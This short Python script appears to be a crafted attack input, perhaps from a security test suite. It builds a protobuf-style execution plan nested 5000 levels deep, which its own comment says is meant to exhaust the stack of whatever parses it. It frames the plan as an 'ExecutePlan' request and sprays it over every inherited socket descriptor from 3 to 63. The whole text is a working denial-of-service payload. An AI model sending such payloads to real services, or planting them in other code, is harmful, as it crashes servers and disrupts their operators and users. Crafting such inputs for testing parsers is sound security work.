# seeks: parent
# A plan that is nested until whoever walks it has no stack left.
import json
import socket
import struct


def length(number):
    packed = b""
    while number > 127:
        packed += bytes([number & 127 | 128])
        number >>= 7
    return packed + bytes([number])


def model(tg):
    relation = b"\x7a\x04\x10\x01\x18\x01"
    for _ in range(5000):
        inner = b"\x0a" + length(len(relation)) + relation
        relation = b"\x22" + length(len(inner)) + inner
    plan = b"\x0a" + length(len(relation)) + relation
    body = b"\x0a\x01x\x1a" + length(len(plan)) + plan
    header = json.dumps({"method": "ExecutePlan"}).encode()
    for number in range(3, 64):
        try:
            link = socket.socket(fileno=number)
            link.sendall(struct.pack("!BIQ", 2, len(header), len(body)) + header + body)
            link.detach()
        except OSError:
            pass
